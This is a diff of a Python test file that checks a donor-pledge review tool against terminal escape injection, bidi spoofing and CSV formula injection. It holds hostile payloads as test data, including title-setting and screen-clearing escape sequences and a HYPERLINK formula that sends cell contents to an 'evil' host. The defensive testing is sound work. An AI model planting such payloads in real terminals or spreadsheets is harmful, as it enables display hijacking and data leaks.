@@ -291,10 +291,17 @@ def test_review_of_many_records_shows_progress_on_a_terminal(tmp_path, identity,
 
 # -- terminal and spreadsheet safety ---------------------------------------------------------------
 
+# What the form lets a donor type at its most hostile: bidi, zero-width, format and separator characters.
 PAYLOADS = {
+    "pseudonym": "\u202eevil\u202c \u2066isolate\u2069",
+    "contact": "\u200f\u061c\u200b\u2060 zero width",
+    "message": "line one\nline two\r\t\u202eevil\u202c \u2028sep \ufeffbom",
+}
+# What no form accepts: a record that carries it is reported by file and line, and nothing of it is shown.
+CONTROLS = {
     "pseudonym": "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
     "contact": "\x9b31m C1 CSI \x7f DEL \x00 NUL",
-    "message": "line one\nline two\r\x08\x08\u202eevil\u202c \u2066isolate\u2069 \u2028sep \ufeffbom",
+    "message": "back\x08\x08space",
     "designation": "\x1bP+q\x1b\\",
     "method": "\u200f\u061c",
 }
@@ -302,14 +309,18 @@ RAW_DANGER = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2
 
 
 def test_control_characters_and_bidi_overrides_never_reach_the_terminal(tmp_path, identity, run):
-    write_records(tmp_path / "a.sealed", [("r1", sealed([identity], 1, **PAYLOADS))])
+    write_records(tmp_path / "a.sealed", [("r1", sealed([identity], 1, **PAYLOADS))] + [
+        (f"r{n}", sealed([identity], n, **{name: payload})) for n, (name, payload) in enumerate(CONTROLS.items(), 2)])
     code, out, err = run(tmp_path / "a.sealed", "--wide")
     assert code == 0
     assert not RAW_DANGER.search(out + err)
     assert out.count("\n") == len(out.splitlines())  # no raw CR in a line
-    assert "\\x1b]0;owned\\x07\\x1b[2J" in out
-    assert "\\x9b31m" in out and "\\x7f" in out and "\\x00" in out
-    assert "line one\\nline two\\r\\x08\\x08[U+202E]evil[U+202C] [U+2066]isolate[U+2069] [U+2028]sep" in out
+    assert "[U+202E]evil[U+202C] [U+2066]isolate[U+2069]" in out
+    assert "line one\\nline two\\r\\t[U+202E]evil[U+202C] [U+2028]sep [U+FEFF]bom" in out
+    assert len(rows(out)) == 1
+    for n in range(2, 2 + len(CONTROLS)):
+        assert f"a.sealed:{n}: " in err
+    assert "owned" not in out + err and "CSI" not in out + err and "space" not in out + err
 
 
 @given(st.text())
@@ -328,11 +339,12 @@ def test_terminal_text_leaves_ordinary_text_alone(text):
 def test_a_planted_currency_cannot_drive_the_terminal(tmp_path, identity, run):
     # The currency is printed on the "Pledged:" line, outside the table: it once went out raw.
     currency = "\x1b]0;PWNED\x07\x1b[2J"
-    write_records(tmp_path / "a.sealed", [("r1", sealed([identity], 1, currency=currency))])
+    write_records(tmp_path / "a.sealed", [("r1", sealed([identity], 1, currency=currency)), ("r2", sealed([identity], 2))])
     code, out, err = run(tmp_path / "a.sealed")
     assert code == 0
-    assert "\x1b" not in out + err and "\x07" not in out + err
-    assert "Pledged: 25.00 \\x1b]0;PWNED\\x07\\x1b[2J." in out
+    assert "\x1b" not in out + err and "\x07" not in out + err and "PWNED" not in out + err
+    assert "a.sealed:1: damaged (its currency is not a currency code), skipped" in err
+    assert "Pledged: 25.00 EUR." in out
 
 
 FORMULAS = ["=HYPERLINK(\"http://evil/\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
@@ -354,7 +366,7 @@ def test_no_csv_cell_starts_like_a_formula(text):
 def test_the_csv_export_is_private_exact_and_safe(tmp_path, identity, run):
     write_records(tmp_path / "a.sealed", [
         ("r1", sealed([identity], 1, pseudonym=FORMULAS[0], contact="+49 30 1234", message="-5 € please",
-                      designation="@SUM(A1)")),
+                      designation="solidarity-zone")),
         ("r2", sealed([identity], 2, pseudonym="Аня", message="Zeile 1\nZeile 2, mit \"Anführung\"")),
     ])
     out_csv = tmp_path / "pledges.csv"
@@ -370,7 +382,7 @@ def test_the_csv_export_is_private_exact_and_safe(tmp_path, identity, run):
     assert first["pseudonym"] == "'" + FORMULAS[0]
     assert first["contact"] == "'+49 30 1234"
     assert first["message"] == "'-5 € please"
-    assert first["designation"] == "'@SUM(A1)"
+    assert first["designation"] == "solidarity-zone"
     assert first["amount"] == "25.00" and first["currency"] == "EUR"
     assert second["pseudonym"] == "Аня"
     assert second["message"] == "Zeile 1\nZeile 2, mit \"Anführung\""
